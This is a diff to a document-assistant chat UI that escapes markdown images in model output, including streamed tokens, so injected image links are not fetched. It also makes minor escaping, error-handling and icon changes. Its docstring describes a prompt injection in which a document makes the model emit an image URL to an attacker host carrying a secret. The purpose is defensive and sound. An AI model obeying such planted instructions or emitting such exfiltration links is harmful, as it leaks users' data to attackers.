@@ -119,6 +119,27 @@ def passage_html(text: str, question: str) -> str:
     return f'<div class="passage">{body}</div>'
 
 
+def inert_images(text: str) -> str:
+    """Markdown whose images show as text instead of being fetched.
+
+    A document can carry instructions that make the model write
+    ``![](https://attacker/?q=secret)``; the browser would fetch that URL on its
+    own. Links stay, since they need a click.
+    """
+    return text.replace("![", "\\![")
+
+
+def inert_image_stream(tokens: Iterator[str]) -> Iterator[str]:
+    """``inert_images`` over a token stream, where ``!`` and ``[`` may come apart."""
+    held = ""
+    for token in tokens:
+        text = held + token
+        held = "!" if text.endswith("!") else ""
+        yield inert_images(text[: len(text) - len(held)])
+    if held:
+        yield held
+
+
 def source_label(source: Source) -> str:
     """The expander title of a source: number, file and page."""
     where = f" · page {source.page}" if source.page is not None else ""
@@ -294,13 +315,16 @@ def sync(assistant: DocumentAssistant) -> None:
         done = event.files_done / event.files_total if event.files_total else 1.0
         bar.progress(
             min(done, 1.0),
-            text=f"Indexing {event.current} ({event.files_done}/{event.files_total} files, "
+            text=f"Indexing {md_escape(event.current)} "
+            f"({event.files_done}/{event.files_total} files, "
             f"{count(event.chunks_done, 'chunk')})",
         )
 
     try:
+        # The folder uploads go to; creating it turns a first start into "no documents yet".
+        assistant.settings.documents_dir.mkdir(parents=True, exist_ok=True)
         report = assistant.ingest(progress=show)
-    except USER_ERRORS as exc:
+    except (*USER_ERRORS, OSError) as exc:
         notify("error", f"Indexing failed: {exc}")
         return
     finally:
@@ -381,7 +405,8 @@ def document_row(assistant: DocumentAssistant, path: str, chunks: int) -> None:
     name, action = st.columns([5, 1], vertical_alignment="center")
     name.markdown(f"**{md_escape(path)}**  \n{count(chunks, 'chunk')}")
     action.button(
-        "🗑",
+        "",
+        icon=":material/delete:",
         key=f"delete-{path}",
         help="Delete this file from the documents folder and the index",
         on_click=ask_delete,
@@ -396,7 +421,8 @@ def failure_list(assistant: DocumentAssistant) -> None:
     failures = assistant.failures()
     if not failures:
         return
-    with st.expander(f"⚠️ {count(len(failures), 'file')} could not be indexed", expanded=True):
+    label = f"{count(len(failures), 'file')} could not be indexed"
+    with st.expander(label, expanded=True, icon=":material/warning:"):
         for path, reason in failures:
             st.markdown(f"**{md_escape(path)}**: {md_escape(reason)}")
 
@@ -519,7 +545,7 @@ def show_message(message: dict[str, Any], assistant: DocumentAssistant) -> None:
         if message.get("error"):
             st.error(message["error"])
             return
-        st.markdown(message["content"])
+        st.markdown(inert_images(message["content"]))
         if message.get("answer") is not None:
             show_answer_extras(message, assistant)
 
@@ -538,7 +564,7 @@ def stream_answer(
             else:
                 yield event
 
-    st.write_stream(tokens(), cursor="▌")
+    st.write_stream(inert_image_stream(tokens()), cursor="▌")
     return finished[-1]
 
 
